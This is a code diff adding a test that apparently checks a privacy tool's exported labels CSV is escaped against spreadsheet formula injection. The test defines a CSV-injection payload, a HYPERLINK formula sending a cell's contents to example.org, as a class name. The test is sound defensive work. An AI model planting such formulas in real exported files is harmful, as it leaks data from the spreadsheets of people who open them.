@@ -395,3 +395,27 @@ def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
     assert second.guarantee.epsilon == pytest.approx(3.0, abs=1e-6)
     assert second.guarantee.delta == pytest.approx(8e-6)
     assert any("earlier runs" in caveat for caveat in second.guarantee.caveats)
+
+
+HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"
+
+
+def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run: Any, cli: Any) -> None:
+    """Its reader is somebody with a spreadsheet; the file as it is written can be a run's evaluation again."""
+    root = make_run(**{"data.classes": ["+no", HOSTILE], "data.evaluation": "evaluation.csv"})
+    for name in ("private.csv", "evaluation.csv"):
+        table = pl.read_csv(root / name)
+        ill = pl.when(pl.col("ill") == "yes").then(pl.lit(HOSTILE)).otherwise(pl.lit("+no"))
+        table.with_columns(ill.alias("ill")).write_csv(root / name)
+    facts = perform(read_batch(root), command="quorate run")
+    assert facts.setup.classes == ("+no", HOSTILE)
+    with (root / "public" / "labels.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert {row["label"] for row in rows} == {"'+no", f"'{HOSTILE}"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell[:1] in "=@\t\r" or (cell[:1] in "+-" and not cell[1:].isdigit()) for cell in cells if cell)
+    public = pl.read_csv(root / "public.csv").with_row_index("row")
+    labels = pl.read_csv(root / "public" / "labels.csv").cast({"row": pl.UInt32})
+    again = public.join(labels.select("row", pl.col("label").alias("ill")), on="row").drop("row")
+    again.write_csv(root / "evaluation.csv")
+    assert read_batch(root).evaluation is not None
